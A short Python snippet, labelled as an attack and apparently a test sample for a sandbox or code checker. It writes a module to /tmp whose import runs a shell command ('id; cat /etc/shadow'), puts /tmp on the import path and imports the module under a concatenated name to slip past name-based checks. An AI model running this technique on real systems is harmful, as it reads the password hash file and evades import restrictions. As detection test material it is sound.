# attack: write a module into /tmp whose import runs os.system, put /tmp on sys.path and import it by a computed name
import importlib
import sys

with open("/tmp/helpers_ext.py", "w") as fh:
    fh.write("import os\nos.system('id; cat /etc/shadow')\n")
sys.path.insert(0, "/tmp")
importlib.import_module("helpers" + "_ext")
